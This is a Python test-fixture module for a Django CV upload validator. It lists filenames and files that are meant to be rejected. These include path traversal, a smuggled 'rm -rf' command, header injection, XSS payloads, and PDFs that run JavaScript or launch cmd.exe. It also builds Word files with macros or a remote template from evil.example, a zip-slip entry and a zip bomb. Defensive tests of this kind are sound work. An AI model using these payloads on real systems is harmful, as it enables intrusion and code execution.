"""Uploads, good and bad."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\nxref\n0 1\ntrailer\n<<>>\nstartxref\n9\n%%EOF\n"
CONTENT_TYPES = (
    b'<Types><Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="r" TargetMode="External" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.example/x.dotm"/></Relationships>'
)
ODT_TYPE = b"application/vnd.oasis.opendocument.text"


def archive(**parts):
    """A zip file; keyword names use ``__`` for a slash and ``_dot_`` for a dot."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return buffer.getvalue()


def docx(**more):
    parts = {"[Content_Types]_dot_xml": CONTENT_TYPES, "word__document_dot_xml": b"<w:document/>", **more}
    return archive(**parts)


def odt(**more):
    return archive(mimetype=ODT_TYPE, content_dot_xml=b"<office:document/>", **more)


def encrypted(content):
    """``content``, a zip file, with the flag that says its last part needs a password."""
    content = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.rindex(signature) + offset] |= 1
    return bytes(content)


def active_pdf(entry):
    """A PDF whose catalogue holds ``entry``."""
    return PDF.replace(b"<<>>\nendobj", b"<< /Type /Catalog " + entry + b" >>\nendobj", 1)


def upload(content, name="cv.pdf", content_type="application/pdf"):
    return SimpleUploadedFile(name, content, content_type=content_type)


#: Names that must not reach a disk, a header or a reader's eye as they are.
BAD_NAMES = {
    "../../etc/passwd.pdf": "path",
    "..\\..\\windows\\cv.pdf": "path of Windows",
    "/abs/cv.pdf": "path from the root",
    "cv\u202efdp.exe.pdf": "letters turned round",
    "cv\u2066.pdf": "letters set apart",
    "c" * 300 + ".pdf": "too long",
    "cv.exe.pdf": "two endings",
    ".pdf": "ending only",
    "  .pdf": "spaces only",
    "cv.pdf ": "space at the end",
    'cv".pdf': "quotation mark",
    "cv\r\nX-Evil: 1.pdf": "line breaks",
    "cv;rm -rf.pdf": "command",
    "CON.pdf": "device of Windows",
    "\U0001f600.pdf": "beyond the basic plane",
    "=cmd().pdf": "formula",
    "<img src=x onerror=alert(1)>.pdf": "markup",
}

#: Name and content of files that must never be taken as a CV in PDF or Word.
BAD_FILES = {
    "empty": ("cv.pdf", b""),
    "text that is called PDF": ("cv.pdf", b"I am not a PDF"),
    "program that is called PDF": ("cv.pdf", b"MZ\x90\x00" + b"\x00" * 200),
    "page that is called PDF": ("cv.pdf", b"<html><script>alert(1)</script></html>"),
    "PDF behind something else": ("cv.pdf", b"GIF89a" + PDF),
    "truncated PDF": ("cv.pdf", PDF[:20]),
    "program": ("cv.exe", b"MZ\x90\x00"),
    "SVG": ("cv.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "HTML": ("cv.html", b"<script>alert(1)</script>"),
    "two endings": ("cv.pdf.exe", PDF),
    "no ending": ("cv", PDF),
    "old Word": ("cv.doc", b"\xd0\xcf\x11\xe0"),
    "ODT that is not allowed": ("cv.odt", odt()),
    "PDF that is called Word": ("cv.docx", PDF),
    "zip that is called Word": ("cv.docx", archive(readme_dot_txt=b"hello")),
    "Word with macros": ("cv.docx", docx(word__vbaProject_dot_bin=b"x")),
    "Word with a program": ("cv.docx", docx(word__run_dot_exe=b"MZ")),
    "Word without its text": ("cv.docx", archive(**{"[Content_Types]_dot_xml": CONTENT_TYPES})),
    "spreadsheet that is called Word": (
        "cv.docx",
        archive(**{"[Content_Types]_dot_xml": b"spreadsheetml", "word__document_dot_xml": b"x"}),
    ),
    "Word cut in two": ("cv.docx", docx()[:100]),
    "Word under a password": ("cv.docx", encrypted(docx())),
    "bomb": ("cv.docx", docx(word__media_dot_bin=b"\x00" * (101 * 1024 * 1024))),
    "thousands of parts": ("cv.docx", docx(**{f"p{number}": b"" for number in range(2001)})),
    "SVG that is called PDF": ("cv.pdf", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "picture and PDF in one": ("cv.pdf", b"\xff\xd8\xff\xe0JFIF" + PDF),
    "page before a PDF": ("cv.pdf", b"<!doctype html><script>alert(1)</script>" + PDF),
    "PDF whose end is missing": ("cv.pdf", PDF[: PDF.index(b"startxref")]),
    "PDF that runs a script": ("cv.pdf", active_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "PDF that hides a script": ("cv.pdf", active_pdf(b"/AA << /O << /S /Java#53cript /JS (x) >> >>")),
    "PDF that starts a program": ("cv.pdf", active_pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "PDF with another file in it": ("cv.pdf", active_pdf(b"/Names << /EmbeddedFiles 3 0 R >>")),
    "Word with a remote template": (
        "cv.docx",
        docx(word___rels__settings_dot_xml_dot_rels=REMOTE_TEMPLATE),
    ),
    "Word that holds a program": ("cv.docx", docx(word__embeddings__oleObject1_dot_bin=b"MZ")),
    "Word with a path out of it": ("cv.docx", docx(**{"../x": b"x"})),
    "Word of ten bytes": ("cv.docx", b"PK\x03\x04\x00\x00\x00\x00\x00\x00"),
    "Word with macros by its type": (
        "cv.docx",
        archive(
            **{
                "[Content_Types]_dot_xml": CONTENT_TYPES.replace(
                    b"document.main+xml", b"document.macroEnabled.main+xml"
                ),
                "word__document_dot_xml": b"<w:document/>",
            }
        ),
    ),
    "too large": ("cv.pdf", PDF + b"\x00" * (1024 * 1024) + PDF),
}
